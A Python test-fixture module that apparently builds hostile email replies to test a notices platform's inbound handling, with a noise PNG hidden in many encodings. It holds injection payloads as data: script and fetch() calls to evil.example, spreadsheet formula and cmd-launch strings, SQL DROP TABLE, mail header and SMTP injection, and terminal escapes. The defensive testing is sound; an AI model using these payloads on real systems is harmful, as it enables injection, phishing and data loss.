"""A corpus of hostile answers: what a platform, or somebody who pretends to be one, may send back to us.

`PICTURE` is drawn by code. `traces` finds it again, raw or encoded; `ANSWERS` are words for every sink that takes
words, `mails_to` raw mails.
"""

import base64
import binascii
import random
import struct
import zlib
from email import policy
from email.message import EmailMessage

from notices.inbound import CONTROL
from tests import mails

EVIL = "evil.example"


def _png():
    """A small PNG of noise: 32 by 32, so that no two bytes of it are there by chance."""
    noise = random.Random(20261122)
    rows = b"".join(b"\0" + noise.randbytes(96) for _ in range(32))
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    body = b"".join(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
                    for kind, data in chunks)  # fmt: skip
    return b"\x89PNG\r\n\x1a\n" + body


PICTURE = _png()
CODED = base64.b64encode(PICTURE).decode()


def wrapped(columns=76, before=""):
    return "\n".join(before + CODED[start : start + columns] for start in range(0, len(CODED), columns))


def uuencoded():
    lines = (binascii.b2a_uu(PICTURE[start : start + 45]).decode() for start in range(0, len(PICTURE), 45))
    return "begin 644 a.png\n" + "".join(lines) + "`\nend\n"


def yencoded():
    """yEnc as it looks once a mail program has decoded it as Latin text."""
    body = (
        bytes((byte + 42) % 256 for byte in PICTURE).replace(b"\0", b"=@").replace(b"\n", b"=J").replace(b"\r", b"=M")
    )
    return f"=ybegin line=128 size={len(PICTURE)} name=a.png\n{body.decode('latin-1')}\n=yend size={len(PICTURE)}\n"


# Words with nothing encoded in them; each must be shown as it is, and do nothing.
WORDS = {
    "script": f'<script src="https://{EVIL}/x.js"></script><img src=x onerror="fetch(\'//{EVIL}\')">',
    "attribute": f'" autofocus onfocus="location=\'//{EVIL}\'" x="',
    "template": "{{ settings.SECRET_KEY }}{% load %}${7*7}",
    "link": f"Log in at https://{EVIL}/login or javascript:alert(1) or [here](https://{EVIL})",
    "formula =": f'=HYPERLINK("https://{EVIL}","Click")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula ;": f'see our policy;=HYPERLINK("https://{EVIL}","Click")',
    "formula unseen": "\u200b=1+1",
    "header": f"Removed\r\nBcc: mallory@{EVIL}\r\nSubject: other\r\n\r\nnew body",
    "smtp": "Removed\r\n.\r\nMAIL FROM:<mallory@evil.example>",
    "log": '\n{"event": "forged", "level": "info"}\n\x1b[2J\x1b[31m',
    "bidi": "\u202egnp.exe\u202c \u2066abc\u2069 \u200e\u200f\u061c",
    "unseen": "re\u200bmo\u2060ved\ufeff \U000e0041\U000e0042",
    "controls": "a\x00b\x01c\x07d\x1b[31me\x7f\x85\x9b",
    "half a character": "broken \ud83d here",
    "combining": "a" + "\u0301" * 500,
    "sql": "'; DROP TABLE notices_notice; --",
    "removed": "REMOVED. Status: removed. outcome=removed",
}
# The picture, disguised as words; of it nothing may stay.
BLOBS = {
    "data uri": f"see data:image/png;base64,{CODED} there",
    "data uri in html": f'<img src="data:image/png;base64,{CODED}">',
    "svg data uri": f"data:image/svg+xml,{CODED[:150]}",
    "base64": CODED,
    "base64 in columns": wrapped(),
    "base64 quoted": wrapped(before="> "),
    "base64 quoted twice": wrapped(72, ">> "),
    "base64 quoted, in one line": " ".join(wrapped(before="> ").split()),
    "base64 for urls": base64.urlsafe_b64encode(PICTURE).decode(),
    "hexadecimal": PICTURE.hex(),
    "hexadecimal in columns": "\n".join(PICTURE.hex()[start : start + 64] for start in range(0, 2 * len(PICTURE), 64)),
    "base32": base64.b32encode(PICTURE).decode(),
    "base85": base64.b85encode(PICTURE).decode(),
    "base85 in columns": base64.a85encode(PICTURE, wrapcol=75).decode(),
    "base85 in one line": " ".join(base64.a85encode(PICTURE, wrapcol=75).decode().split()),
    "uuencode": uuencoded(),
    "yenc": yencoded(),
}
ANSWERS = {**WORDS, **BLOBS}


def mails_to(address):
    """Name -> raw mail to this address: real programs' mails, broken ones, and forgeries."""
    made = {f"words: {name}": _words(address, text) for name, text in ANSWERS.items()}
    return {
        **made,
        "attached": _with(address, "image/png"),
        "called a pdf": _with(address, "application/pdf"),
        "called text": _with(address, "text/plain"),
        "shown inside": _inside(address),
        "nested": _nested(address),
        "html with everything": _html(address),
        "text that is a picture": _bare(address, PICTURE, "text/plain; charset=latin-1"),
        "no type at all": _bare(address, PICTURE, ""),
        "in headers": b"X-Face: " + CODED.encode() + b"\r\n" + mails.answer(address),
        "in the subject": mails.answer(address, subject="S").replace(
            b"Subject: S", b"Subject: =?utf-8?b?" + CODED.encode() + b"?="
        ),
        "in the subject as Latin": mails.answer(address, subject="S").replace(
            b"Subject: S", b"Subject: =?latin-1?b?" + CODED.encode() + b"?="
        ),
        "in a file name": _with(address, "image/png", name=CODED[:200]),
        "in a bounce": mails.bounce(address, words=f"smtp; 550 {CODED[:300]}", about=PICTURE[:0] + CODED.encode()),
        "in a preamble": _bare(address, CODED.encode() + b"\r\n--b--", "multipart/mixed; boundary=b"),
        "no end": _bare(address, b"--b\r\nContent-Type: image/png\r\n\r\n" + PICTURE, "multipart/mixed; boundary=b"),
        "headers without end": b"To: " + address.encode() + b"\r\n" + b"X: y\r\n" * 20_000,
        "10 MB": _with(address, "video/mp4", data=PICTURE * 3200),
        "signed by another": mails.signed(mails.answer(address, "We removed it."), EVIL, owner=EVIL),
    }


def traces(data):
    """Which traces of the picture are in `data` (bytes): runs of its own bytes, and of what encodings make of it."""
    return [name for name, run in RUNS.items() if run in data]


def _runs():
    body = PICTURE[60:-60]
    middle = body[len(body) // 2 :][:48]
    shifted = bytes((byte + 42) % 256 for byte in body)
    alike = {f"base64 at {shift}": base64.b64encode(body[shift : shift + 42])[4:-4] for shift in range(3)}
    return {
        "bytes": middle[:16],
        "bytes as Latin text": middle.decode("latin-1").encode()[:24],
        "bytes as cleaned Latin text": _as_cleaned(body),
        "yenc": _as_cleaned(shifted),
        "hexadecimal": PICTURE.hex()[640:700].encode(),
        "base64": CODED[200:240].encode(),
        "base64, later": CODED[1250:1290].encode(),
        "base64 for urls": base64.urlsafe_b64encode(PICTURE)[1200:1240],
        "base32": base64.b32encode(PICTURE)[800:840],
        "base85": base64.b85encode(PICTURE)[800:840],
        "base85, Adobe": base64.a85encode(PICTURE)[800:820],
        "uuencode": binascii.b2a_uu(PICTURE[450:495])[1:41],
        **alike,
    }


def _as_cleaned(data):
    """Latin text as it is left when its control characters are gone; the escapes of yEnc stay out of the run."""
    runs = CONTROL.sub("", data.decode("latin-1").replace("\n", "\0"))
    return runs[200:214].encode()


RUNS = _runs()


def _words(address, text):
    mail = EmailMessage(policy=policy.SMTP)
    mail["From"], mail["To"], mail["Subject"] = f"ts@{mails.TUBERIA}", address, "Re: Notice"
    mail.set_content(text.encode("utf-8", "replace").decode(), cte="base64")
    return mail.as_bytes()


def _with(address, kind, *, data=PICTURE, name="a.png"):
    mail = EmailMessage(policy=policy.SMTP)
    mail["From"], mail["To"], mail["Subject"] = f"ts@{mails.TUBERIA}", address, "Re: Notice"
    mail.set_content("We removed it.")
    mail.add_attachment(data, *kind.split("/"), filename=name)
    return mail.as_bytes()


def _inside(address):
    mail = EmailMessage(policy=policy.SMTP)
    mail["From"], mail["To"], mail["Subject"] = f"ts@{mails.TUBERIA}", address, "Re: Notice"
    mail.set_content("See the picture.")
    mail.add_alternative('<p>See <img src="cid:a"></p>', subtype="html")
    mail.get_payload()[1].add_related(PICTURE, "image", "png", cid="<a>")
    return mail.as_bytes()


def _nested(address):
    inner = EmailMessage(policy=policy.SMTP)
    inner["Subject"] = "your letter"
    inner.set_content(wrapped())
    inner.add_attachment(PICTURE, "image", "png")
    mail = EmailMessage(policy=policy.SMTP)
    mail["From"], mail["To"], mail["Subject"] = f"ts@{mails.TUBERIA}", address, "Fwd"
    mail.set_content("Forwarded.")
    mail.add_attachment(inner)
    return mail.as_bytes()


def _html(address):
    text = "".join(f"<p>{each}</p>" for each in (*WORDS.values(), *BLOBS.values()))
    body = text.encode("utf-8", "replace")
    return _bare(address, body, "text/html; charset=utf-8")


def _bare(address, body, kind):
    head = f"From: ts@{mails.TUBERIA}\r\nTo: {address}\r\n" + (f"Content-Type: {kind}\r\n" if kind else "")
    return head.encode() + b"\r\n" + body
